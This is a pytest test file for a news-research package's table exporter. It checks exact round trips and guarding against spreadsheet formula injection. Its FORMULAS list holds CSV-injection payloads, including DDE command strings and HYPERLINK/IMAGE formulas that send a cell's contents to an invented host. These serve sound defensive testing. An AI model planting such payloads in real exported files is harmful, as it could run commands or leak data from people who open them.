"""Tables to files: exact round trips, formulas made harmless, whole or not at all."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from pathlib import Path

import nasty
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from newsresearch.articles import ArticleError
from newsresearch.export import save_table, unguard_table

# The program names and addresses are invented; what matters is how each text begins.
FORMULAS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1)",
    "dde": "=cmd|' /C tide'!A0",
    "dde without equals": "|cmd' /C tide'!A0",
    "percent": "%0A=1+1",
    "link": '=HYPERLINK("http://quay.example/?k="&A1,"Read on")',
    "image": '=IMAGE("http://quay.example/?k="&A1)',
    "blank": " =1+1",
    "blanks": "   \u3000\xa0=1+1",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "line feed": "\n=1+1",
    "bare tab": "\tFerry",
    "bare return": "\rFerry",
    "bare line feed": "\nFerry",
    "line breaks": "\r\n\v\f\x1c\x85\u2028=1+1",
    "byte order mark": "\ufeff=1+1",
    "zero width": "\u200b\u200d\u2060=1+1",
    "soft hyphen": "\xad=1+1",
    "direction": "\u202e\u2066=1+1",
    "filler": "\u115f\u3164\uffa0=1+1",
    "variation": "\ufe0f\U000e0100=1+1",
    "NUL": "\0=1+1",
    "control": "\x01\x7f\x9f=1+1",
    "full-width equals": "＝1+1",
    "full-width plus": "＋1+1",
    "full-width minus": "－2+3",
    "full-width at": "＠SUM(1)",
    "full-width bar": "｜cmd",
    "full-width percent": "％1",
    "small equals": "﹦1+1",
    "raised plus": "⁺1",
    "two in one": "⩵1+1",
    "equals and a mark": "=\u0338cmd|' /C tide'!A0",
    "apostrophe": "'=1+1",
    "apostrophes": "'''",
    "late apostrophe": " '=1+1",
    "full-width apostrophe": "＇=1+1",
    "signed number": "-12",
    "signed text": "+44 20 harbour",
    "long blank": " " * 40_000 + "=1+1",
}
HARMLESS = [
    "",
    "Ferry",
    "1+1=2",
    '"=1+1"',
    "(=1+1)",
    "a\n=1+1",
    "—= 1",
    "−2 degrees",
    "’=1",
    "12",
    "#1",
]


def read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def headline_table(texts: list[str]) -> pd.DataFrame:
    return pd.DataFrame({"headline": pd.Series(texts, dtype=object), "n": range(len(texts))})


# --- round trips -----------------------------------------------------------------------------

texts = st.text(
    st.sampled_from("\r\n\t\0\"',;=+-@|% \ufeff\u200b\u2028\x1cé＝a\ud800") | st.characters()
)


@given(table=st.lists(st.tuples(texts, texts), min_size=1, max_size=6), safe=st.booleans())
@settings(max_examples=100, deadline=None)
def test_csv_gives_back_every_text(
    table: list[tuple[str, str]], safe: bool, tmp_path_factory: pytest.TempPathFactory
) -> None:
    path = tmp_path_factory.mktemp("csv") / "a.csv"
    frame = pd.DataFrame(table, columns=["headline", "body"], dtype=object)
    save_table(frame, path, excel_safe=safe)
    header, *rows = read(path)
    found = pd.DataFrame(rows, columns=header, dtype=object)
    if safe:
        found = unguard_table(found)
    assert list(found.columns) == ["headline", "body"]
    whole = [[nasty_free(cell) for cell in row] for row in table]
    assert found.to_numpy().tolist() == whole


def nasty_free(text: str) -> str:
    return "".join("\ufffd" if "\ud800" <= c <= "\udfff" else c for c in text)


@pytest.mark.parametrize("safe", [False, True])
@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".parquet"])
def test_nasty_texts_come_back(suffix: str, safe: bool, tmp_path: Path) -> None:
    texts = list(nasty._FEW.values())
    path = save_table(headline_table(texts), tmp_path / f"a{suffix}", excel_safe=safe)
    if suffix == ".csv":
        found = [row[0] for row in read(path)[1:]]
        if safe:
            found = unguard_table(pd.DataFrame({"t": found}))["t"].tolist()
    elif suffix == ".jsonl":
        lines = path.read_bytes().split(b"\n")
        assert "市".encode() in path.read_bytes()  # readable, not \\u5e02
        found = [json.loads(line)["headline"] for line in lines if line]
    else:
        found = pd.read_parquet(path)["headline"].tolist()
    assert found == [nasty_free(text) for text in texts]


def test_our_own_reader_reads_it_back(tmp_path: Path) -> None:
    articles = pd.DataFrame(
        {
            "article_id": ["007", "a;b", "NA"],
            "headline": ["NA", "Ferry, “late”", "\rnull"],
            "body": ["", 'The "ferry"\r\nis late.\r', "=1+1\n\n\n, ;\t|"],
        }
    )
    path = save_table(articles, tmp_path / "a.csv")
    from newsresearch import read_articles  # the only test that needs the readers

    found = read_articles(path)
    for column in articles:
        assert found[column].tolist() == articles[column].tolist()


def test_a_lone_return_and_an_empty_text_survive(tmp_path: Path) -> None:
    """Without quotation marks a lone return ends the row, and an empty row is skipped."""
    path = save_table(pd.DataFrame({"body": ["\r", "", "a"]}), tmp_path / "a.csv")
    assert read(path) == [["body"], ["\r"], [""], ["a"]]
    assert b"\r\n" not in path.read_bytes()


# --- formulas --------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", FORMULAS.values(), ids=FORMULAS)
def test_no_formula_is_left_and_each_comes_back(payload: str, tmp_path: Path) -> None:
    frame = pd.DataFrame({payload: [payload, "Ferry"], "n": [-1.5, -2]})
    header, *rows = read(save_table(frame, tmp_path / "a.csv", excel_safe=True))
    assert header == [f"'{payload}", "n"]
    assert rows == [[f"'{payload}", "-1.5"], ["Ferry", "-2.0"]]
    back = unguard_table(pd.DataFrame(rows, columns=header))
    assert list(back.columns) == [payload, "n"] and back.iloc[0, 0] == payload
    plain = read(save_table(frame, tmp_path / "b.csv"))
    assert plain[0][0] == plain[1][0] == payload  # exact unless asked


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_are_left_alone(text: str, tmp_path: Path) -> None:
    path = save_table(headline_table([text]), tmp_path / "a.csv", excel_safe=True)
    assert read(path)[1] == [text, "0"]


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "float": [-0.1, float("-inf"), None],
            "int": [-1, 2, -3],
            "flag": [True, False, True],
            "mixed": [-1, "-1", Decimal("-1.5")],
        }
    )
    raw = save_table(frame, tmp_path / "a.csv", excel_safe=True).read_text(encoding="utf-8")
    assert raw.splitlines() == [
        '"float","int","flag","mixed"',
        "-0.1,-1,True,-1",
        '-inf,2,False,"\'-1"',
        '"",-3,True,-1.5',
    ]


def test_text_hidden_in_other_kinds_is_guarded(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "kind": pd.Categorical(["=1+1", "a"]),
            "path": [Path("=1+1"), Path("a")],
            "bytes": [b"=1+1", b"a"],
            "list": [["=1+1"], []],
        }
    )
    rows = read(save_table(frame, tmp_path / "a.csv", excel_safe=True))
    assert rows[1] == ["'=1+1", "'=1+1", "b'=1+1'", "['=1+1']"]


@pytest.mark.parametrize("suffix", [".jsonl", ".parquet"])
def test_only_csv_is_guarded(suffix: str, tmp_path: Path) -> None:
    path = save_table(headline_table(["=1+1"]), tmp_path / f"a{suffix}", excel_safe=True)
    table = pd.read_parquet(path) if suffix == ".parquet" else pd.read_json(path, lines=True)
    assert table["headline"].tolist() == ["=1+1"]


# --- tables ----------------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".parquet", ".CSV"])
def test_the_callers_table_is_not_changed(suffix: str, tmp_path: Path) -> None:
    frame = headline_table(["=1", "\ud800", "a"])
    frame.index = pd.Index([7, 7, 8])
    before = frame.copy()
    assert save_table(frame, str(tmp_path / "new" / f"a{suffix}"), excel_safe=True).exists()
    pd.testing.assert_frame_equal(frame, before)


@pytest.mark.parametrize("safe", [False, True])
def test_repeated_names_and_no_rows(safe: bool, tmp_path: Path) -> None:
    twice = pd.DataFrame([["=1", "b", 2]], columns=["a", "a", "=n"], index=[5])
    mark = "'" if safe else ""
    rows = read(save_table(twice, tmp_path / "a.csv", excel_safe=safe))
    assert rows == [["a", "a", f"{mark}=n"], [f"{mark}=1", "b", "2"]]
    empty = pd.DataFrame({"headline": pd.Series([], dtype="str")})
    for suffix in (".csv", ".jsonl", ".parquet"):
        save_table(empty, tmp_path / f"b{suffix}", excel_safe=safe)
    assert read(tmp_path / "b.csv") == [["headline"]]


def test_a_text_column_keeps_its_kind(tmp_path: Path) -> None:
    frame = pd.DataFrame({"'a": pd.Series(["'=1", None], dtype="str"), "n": [1, 2]})
    back = unguard_table(frame)
    assert back.columns.tolist() == ["a", "n"]
    assert back["a"].dtype == "str" and back["a"].isna().tolist() == [False, True]
    assert back["n"].dtype == "int64"


def test_half_characters_do_not_stop_the_undoing() -> None:
    back = unguard_table(pd.DataFrame({"a": pd.Series(["'=\ud800", "b"], dtype=object)}))
    assert back["a"].tolist() == ["=\ufffd", "b"]


def test_a_flipped_byte_in_parquet_is_found(tmp_path: Path) -> None:
    path = save_table(headline_table(["Ferry late again"] * 3), tmp_path / "a.parquet")
    raw = path.read_bytes()
    at = raw.index(b"late again")
    path.write_bytes(raw[:at] + b"g" + raw[at + 1 :])
    assert pd.read_parquet(path)["headline"][0] == "Ferry gate again"  # unless asked to look
    with pytest.raises(OSError, match="CRC"):
        pd.read_parquet(path, page_checksum_verification=True)


# --- failures --------------------------------------------------------------------------------

UNFIT = {
    "repeated names": (pd.DataFrame([[1, 2]], columns=["a", "a"]), ".jsonl"),
    "repeated names in Parquet": (pd.DataFrame([[1, 2]], columns=["a", "a"]), ".parquet"),
    "mixed kinds": (pd.DataFrame({"a": ["x", 1]}), ".parquet"),
    "text and bytes": (pd.DataFrame({"a": ["x", b"y"]}), ".parquet"),
    "bytes that are no text": (pd.DataFrame({"a": [b"\xff"]}), ".jsonl"),
    "a broken text in a list": (pd.DataFrame({"a": [["\ud800"]]}), ".jsonl"),
}


@pytest.mark.parametrize(("table", "suffix"), UNFIT.values(), ids=UNFIT)
def test_an_unfit_table_is_one_clear_error(
    table: pd.DataFrame, suffix: str, tmp_path: Path
) -> None:
    path = tmp_path / f"a{suffix}"
    path.write_bytes(b"old")
    with pytest.raises(ArticleError, match="cannot hold this table"):
        save_table(table, path)
    assert path.read_bytes() == b"old" and len(list(tmp_path.iterdir())) == 1


def test_another_ending_or_no_table_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ArticleError, match=r"cannot write 'a.xlsx'. Use one of .csv, .jsonl"):
        save_table(pd.DataFrame(), tmp_path / "new" / "a.xlsx")
    with pytest.raises(ArticleError, match="found list"):
        save_table([], tmp_path / "new" / "a.csv")  # type: ignore[arg-type]
    assert not list(tmp_path.iterdir())


def test_a_full_disk_leaves_the_old_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = save_table(headline_table(["old"]), tmp_path / "a.csv")
    before = path.read_bytes()

    def full(_: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("newsresearch.files.os.fsync", full)
    with pytest.raises(OSError, match="No space left"):
        save_table(headline_table(["new"]), path)
    assert path.read_bytes() == before and len(list(tmp_path.iterdir())) == 1


def test_without_pyarrow_the_error_names_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def missing(*_: object, **__: object) -> None:
        raise ImportError("no engine")

    monkeypatch.setattr(pd.DataFrame, "to_parquet", missing)
    with pytest.raises(ArticleError, match=r"pip install 'newsresearch\[parquet\]'"):
        save_table(headline_table(["a"]), tmp_path / "a.parquet")


def test_the_table_is_what_pandas_reads(tmp_path: Path) -> None:
    frame = pd.DataFrame({"headline": ["Rain", "NA"], "score": [0.1 + 0.2, None]})
    raw = save_table(frame, tmp_path / "a.csv").read_bytes()
    back = pd.read_csv(io.BytesIO(raw), keep_default_na=False, na_values={"score": [""]})
    pd.testing.assert_frame_equal(back, frame)
